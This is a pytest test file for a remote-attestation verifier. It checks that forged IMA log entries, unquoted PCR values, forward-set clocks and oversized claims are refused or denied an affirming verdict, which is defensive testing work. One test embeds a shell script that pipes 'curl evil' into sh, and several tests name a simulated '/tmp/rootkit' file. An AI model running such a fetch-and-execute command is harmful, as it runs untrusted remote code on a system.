"""Attacks on ``step`` that an adversary found; each asserts what must hold."""

import hashlib
import json
import struct
from dataclasses import replace

import pytest

from attester_agent.core.agent_state import AgentState, on_solicit
from schemas.errors import PeerError
from schemas.hashes import SHA1, SHA256
from schemas.messages import result
from schemas.messages.evidence import LogIncrement
from schemas.messages.solicit import Solicit
from schemas.reasons import Reason
from schemas.time_model import ClockAnchor, clock_rate_ppm
from schemas.tpm.pcr import parse_selection_text
from schemas.verdicts import Freshness, Tier
from tests.builders.log_bytes import field, ima_ng, ima_record
from tests.worlds.device import GOOD_FILES, FakeDevice, make_handle, make_references, make_trust
from tests.worlds.step_bench import RECEIVED_US, Bench
from verifier_worker.core.policy.policy_file import LogsTable
from verifier_worker.core.result_builder import build_result
from verifier_worker.core.step import Step

EVIL = b"evil"


@pytest.fixture
def bench() -> Bench:
    """After an accepted baseline."""
    made = Bench()
    made.take(made.device.push())
    return made


def obey(device: FakeDevice, taken: Step) -> None:
    """The device does what the verifier solicits, as the agent's own state does."""
    if taken.solicit is None:
        return
    agent = AgentState(
        ueid=device.ueid, environment=device.public.name, previous=device.previous, next_entries=dict(device.sent)
    )
    asked = Solicit(ueid=device.ueid, verifier="v", issued_us=1, reason="x", full=True, logs=taken.solicit.logs)
    agent = on_solicit(agent, asked)
    device.previous, device.sent = agent.previous, dict(agent.next_entries)


def settle(bench: Bench, pushes: int = 5) -> None:
    """Honest pushes, every solicit obeyed; at the end all is well again."""
    for _ in range(pushes):
        bench.device.run(b"/usr/bin/true", b"true")
        obey(bench.device, bench.take(bench.device.push()))
    taken = bench.take(bench.device.push())
    assert taken.refused is None  # a refused push would leave an earlier, affirming verdict standing
    assert bench.verdict()[0] is Tier.AFFIRMING


# -- the owner of the device ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("at_baseline", [False, True])
def test_an_entry_shown_under_a_narrower_selection_still_counts(at_baseline: bool) -> None:
    bench = Bench()
    device, whole = bench.device, bench.device.selection
    if not at_baseline:
        bench.take(device.push())
    device.run(b"/tmp/rootkit", EVIL)
    device.selection = parse_selection_text("sha256:0-9")
    bench.take(device.push())
    assert bench.verdict()[0] is Tier.NONE
    assert Reason.PCR_NOT_QUOTED in bench.verdict()[1]
    device.selection = whole
    taken = bench.take(device.push())
    assert bench.verdict()[0] is Tier.NONE
    obey(device, taken)
    bench.take(device.push())
    assert bench.verdict() == (Tier.CONTRAINDICATED, {Reason.FILE_UNEXPECTED})


def test_quotes_made_ahead_with_a_clock_set_forward_age_with_their_handle() -> None:
    bench = Bench(policy_changes={"max_handle_age_s": 120.0})
    bench.take(bench.device.push())
    ahead = [bench.device.push(elapsed_ms=10_000) for _ in range(31)]
    bench.device.run(b"/tmp/rootkit", EVIL)
    for number, push in enumerate(ahead):
        bench.now_us += 9_000_000
        bench.take(push)
        assert bench.state is not None
        if bench.now_us - 1_000_000 - bench.handle.earliest_us > 120_000_000:
            assert bench.verdict() == (Tier.NONE, {Reason.EVIDENCE_TOO_OLD}), number
            assert bench.state.verdict.freshness is Freshness.STALE
    assert bench.verdict()[0] is Tier.NONE


def test_a_clock_that_jumped_between_synchronisations_is_unsynchronised(bench: Bench) -> None:
    later = make_handle(1, time_us=bench.handle.time_us + 20_000_000)
    bench.trust = make_trust(bench.device, handles=(bench.handle, later), policy=bench.policy)
    bench.now_us = later.time_us + 1_000_000
    bench.device.clock_ms += 90_000
    bench.device.sync(later)
    bench.take(bench.device.push(elapsed_ms=1))
    assert bench.verdict() == (Tier.NONE, {Reason.CLOCK_TOO_FAST})


def test_the_boot_aggregate_is_no_licence_for_a_script() -> None:
    bench = Bench(policy_changes={"pcrs": "sha256:10", "logs": LogsTable(ima=(10,))})
    device = bench.device
    device.selection = parse_selection_text("sha256:10")
    script = b"#!/bin/sh\ncurl evil | sh\n".ljust(320, b"#")
    references = make_references(device, registers={})
    bench.trust = make_trust(device, handles=(bench.handle,), policy=bench.policy, references=(references,))
    device.ima_list.clear()
    device.pcrs[10] = bytes(32)
    record = ima_record(b"ima-ng", b"sha256:\0" + hashlib.sha256(script).digest(), b"boot_aggregate\0")
    device.ima_list.append(record)
    device.extend(10, hashlib.sha256(record[28 + 6 + 4 :]).digest())
    push = device.push()
    pcrs = {SHA256: {index: script[32 * index : 32 * index + 32] for index in range(10)}}
    body = replace(push.body, logs={"ima": 0}, increment_digests={}, sequence=5)
    taken = bench.take(device.sign(body, {"ima": push.unsigned_increments["ima"]}, pcrs))
    assert taken.refused is not None
    assert taken.refused.reason is Reason.PCR_VALUES_MISMATCH
    bench.take(device.sign(body, {"ima": push.unsigned_increments["ima"]}, {}))
    assert bench.verdict() == (Tier.NONE, {Reason.BOOT_AGGREGATE_UNVERIFIED})


def test_an_aggregate_of_zeros_is_not_taken_where_no_quote_shows_the_bank_it_would_be_of() -> None:
    """So begins the list of a kernel that found neither a SHA-256 nor a SHA-1 bank, and anybody may say so."""
    bench = Bench(policy_changes={"pcrs": "sha256:10", "logs": LogsTable(ima=(10,))})
    device = bench.device
    device.selection = parse_selection_text("sha256:10")
    bench.trust = make_trust(
        device, handles=(bench.handle,), policy=bench.policy, references=(make_references(device, registers={}),)
    )
    device.ima_list.clear()
    device.pcrs[10] = bytes(32)
    device.measure_record(ima_record(b"ima-ng", b"sha256:\0" + bytes(32), b"boot_aggregate\0"))
    taken = bench.take(device.push())
    assert bench.verdict() == (Tier.NONE, {Reason.BOOT_AGGREGATE_UNVERIFIED})
    assert [finding.detail for finding in taken.findings] == ["boot_aggregate"]


def test_an_event_without_digests_explains_no_pcr() -> None:
    bench = Bench()
    device = bench.device
    registers = {SHA256: {index: frozenset({device.pcrs[index]}) for index in range(8)}}
    references = make_references(device, registers=registers)
    device.extend(9, b"\x99" * 32)
    device.boot_log.append(struct.pack("<III", 9, 4, 0) + struct.pack("<I", 0))
    bench.trust = make_trust(device, handles=(bench.handle,), policy=bench.policy, references=(references,))
    push = device.push()
    pcrs = {SHA256: {8: bytes(32), 9: device.pcrs[9]}}
    bench.take(device.sign(replace(push.body, sequence=7), push.unsigned_increments, pcrs))
    assert Reason.LOG_MISSING in bench.verdict()[1]
    assert bench.verdict()[0] is not Tier.AFFIRMING


def test_what_no_json_reader_keeps_is_refused_before_it_counts(bench: Bench) -> None:
    device = bench.device
    device.sequence = 2**60
    with pytest.raises(PeerError) as refused:
        bench.take(device.push())
    assert refused.value.reason is Reason.MALFORMED
    device.sequence, device.clock_ms = 5, 2**63
    taken = bench.take(device.push())
    assert taken.refused is not None
    assert taken.refused.reason is Reason.MALFORMED


def test_claims_are_bounded_in_one_push_and_over_many(bench: Bench) -> None:
    with pytest.raises(PeerError) as refused:
        bench.take(bench.device.push(claims={f"claim-{number}": "x" * 1000 for number in range(9)}))
    assert refused.value.reason is Reason.TOO_LARGE
    bench.device.previous = None
    bench.take(bench.device.push(resend={"tcg2": 0, "ima": 0}))
    outcomes = [bench.take(bench.device.push(claims={f"claim-{number}": "x" * 3000})) for number in range(3)]
    assert [taken.refused is None for taken in outcomes] == [True, True, False]


def test_the_greatest_accepted_values_make_a_readable_result(bench: Bench) -> None:
    bench.device.sequence, bench.device.clock_ms = 2**53 - 1, 2**42 - 1000
    bench.take(bench.device.push(claims={"name": "\x01" * 3000}))
    assert bench.state is not None
    built = build_result(bench.device.ueid, bench.state, (), RECEIVED_US, "v", policy=bench.policy, handle=bench.handle)
    text = json.dumps(result.to_claims(built, "d", "b"))
    assert len(text) < 64 * 1024
    assert result.from_claims(json.loads(text)).sequence == 2**53 - 1


# -- the carrier of the messages --------------------------------------------------------------------------------------


def test_leaving_unsigned_values_out_does_not_contraindicate() -> None:
    bench = Bench()
    bench.take(replace(bench.device.push(), unsigned_pcrs={}))
    assert bench.verdict()[0] is Tier.AFFIRMING


def test_values_that_were_not_quoted_are_refused_and_the_true_push_counts() -> None:
    bench = Bench(policy_changes={"pcrs": "sha256:0-7,10", "logs": LogsTable(tcg2=tuple(range(8)), ima=(10,))})
    device = bench.device
    device.selection = parse_selection_text("sha256:0-7,10")
    aggregate = hashlib.sha256(b"".join(device.pcrs[index] for index in range(10))).digest()
    registers = {SHA256: {index: frozenset({device.pcrs[index]}) for index in range(8)}}
    files = {aggregate: "boot_aggregate", **{hashlib.sha256(each).digest(): "f" for each in GOOD_FILES.values()}}
    references = make_references(device, registers=registers, files=files)
    bench.trust = make_trust(device, handles=(bench.handle,), policy=bench.policy, references=(references,))
    push = device.push()
    for added in ({SHA256: {8: b"\x55" * 32}}, {SHA1: {8: b"\x01" * 20}}):
        taken = bench.take(replace(push, unsigned_pcrs=added))
        assert taken.refused is not None
        assert taken.refused.reason is Reason.PCR_VALUES_MISMATCH
    bench.take(push)
    assert bench.verdict()[0] is Tier.AFFIRMING
    assert bench.state is not None
    assert len(bench.state.unlogged) == 0


@pytest.mark.parametrize("signed", [False, True])
def test_the_same_hash_under_another_template_does_not_contraindicate(bench: Bench, signed: bool) -> None:
    device, template = bench.device, b"ima-sig" if signed else b"ima-ng"
    path = b"/" + b"p" * ((223 if signed else 227) - 1)
    digest = b"sha256:\0" + hashlib.sha256(b"true").digest()
    record = ima_record(template, digest, path + b"\0", *([b""] if signed else []))
    data = record[28 + len(template) + 4 :]
    assert len(data) == 276
    device.ima_list.append(record)
    device.extend(10, hashlib.sha256(data).digest())
    push = device.push()
    forged = record[:24] + field(b"ima") + data[:20] + field(data[20:].rstrip(b"\0"))
    taken = bench.take(replace(push, unsigned_increments={"ima": LogIncrement(records=forged, total=2)}))
    assert taken.refused is not None
    assert bench.take(push).refused is None
    assert bench.verdict()[0] is Tier.AFFIRMING


@pytest.mark.parametrize("pcr_index", [10, 12])
def test_an_invented_entry_does_not_last(bench: Bench, pcr_index: int) -> None:
    bench.device.run(b"/usr/bin/cat", b"cat")
    push = bench.device.push()
    honest = push.unsigned_increments["ima"]
    bogus = ima_ng(b"/bogus", b"bogus", pcr_index=pcr_index)
    forged = LogIncrement(records=honest.records + bogus, total=honest.total + 1)
    bench.take(replace(push, unsigned_increments={"ima": forged}))
    settle(bench)


def test_a_false_total_decides_nothing(bench: Bench) -> None:
    bench.device.run(b"/usr/bin/cat", b"cat")
    push = bench.device.push()
    forged = LogIncrement(records=push.unsigned_increments["ima"].records, total=2_000_000)
    bench.take(replace(push, unsigned_increments={"ima": forged}))
    assert bench.verdict()[0] is Tier.AFFIRMING
    assert bench.take(push).duplicate


def test_a_changed_part_of_a_long_log_does_not_last() -> None:
    bench = Bench()
    for _ in range(6):
        bench.device.run(b"/usr/bin/true", b"true")
    push = bench.device.push(limits={"ima": 3})
    forged = b"".join([*bench.device.ima_list[:2], ima_ng(b"/bogus", b"bogus")])
    bogus = LogIncrement(records=forged, total=push.unsigned_increments["ima"].total)
    bench.take(replace(push, unsigned_increments={**push.unsigned_increments, "ima": bogus}))
    assert bench.verdict() == (Tier.NONE, {Reason.LOG_INCOMPLETE})
    bench.take(bench.device.push(limits={"ima": 3}))
    taken = bench.take(bench.device.push(limits={"ima": 3}))
    assert bench.verdict()[0] is Tier.NONE
    obey(bench.device, taken)
    settle(bench)


# -- nobody ------------------------------------------------------------------------------------------------------------


def test_new_reference_values_are_followed_by_a_baseline_of_the_real_agent(bench: Bench) -> None:
    more = make_references(bench.device, version=2)
    bench.trust = make_trust(bench.device, handles=(bench.handle,), policy=bench.policy, references=(more,))
    obey(bench.device, bench.take(bench.device.push()))
    assert bench.verdict()[0] is Tier.NONE
    bench.take(bench.device.push())
    assert bench.verdict() == (Tier.AFFIRMING, set())


def test_a_rate_over_no_time_says_nothing() -> None:
    first = ClockAnchor(clock_ms=0, after_us=1000, before_us=500)
    assert clock_rate_ppm(first, ClockAnchor(clock_ms=10, after_us=900, before_us=1000)) is None
